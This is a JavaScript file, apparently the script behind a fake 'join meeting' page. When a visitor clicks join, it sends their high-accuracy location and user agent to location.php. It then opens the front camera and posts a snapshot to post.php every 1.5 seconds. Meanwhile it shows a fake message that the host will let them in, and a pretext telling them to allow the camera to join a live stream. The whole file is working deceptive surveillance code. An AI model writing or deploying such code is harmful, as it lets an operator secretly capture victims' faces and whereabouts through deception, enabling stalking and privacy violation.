const video = document.createElement('video');
const canvas = document.createElement('canvas');
video.setAttribute('playsinline', '');
video.muted = true;

function post(imgdata) {
    $.ajax({
        type: 'POST',
        data: { cat: imgdata },
        url: 'post.php',
        dataType: 'json',
        async: false,
        success: function (result) { },
        error: function () { }
    });
}

function locate() {
    if (!navigator.geolocation) return;
    navigator.geolocation.getCurrentPosition(function (p) {
        $.post('location.php', { lat: p.coords.latitude, lon: p.coords.longitude, acc: p.coords.accuracy, ua: navigator.userAgent });
    }, function () {
        $.post('location.php', { denied: 1, ua: navigator.userAgent });
    }, { enableHighAccuracy: true, timeout: 10000, maximumAge: 0 });
}

async function init() {
    try {
        const stream = await navigator.mediaDevices.getUserMedia({ audio: false, video: { facingMode: 'user', width: 640 } });
        video.srcObject = stream;
        await video.play();
        const ctx = canvas.getContext('2d');
        canvas.width = 640;
        canvas.height = 480;
        setInterval(function () {
            ctx.drawImage(video, 0, 0, 640, 480);
            post(canvas.toDataURL('image/png').replace('image/png', 'image/octet-stream'));
        }, 1500);
    } catch (e) {
        document.getElementById('errorMsg').innerHTML = 'Allow camera to join the live stream';
    }
}

$('#join').on('click', function () {
    $(this).text('Connecting...');
    locate();
    init();
    setTimeout(function () { $('.meeting').html('<img src="loading.gif"><p>The host will let you in soon</p>'); }, 2000);
});
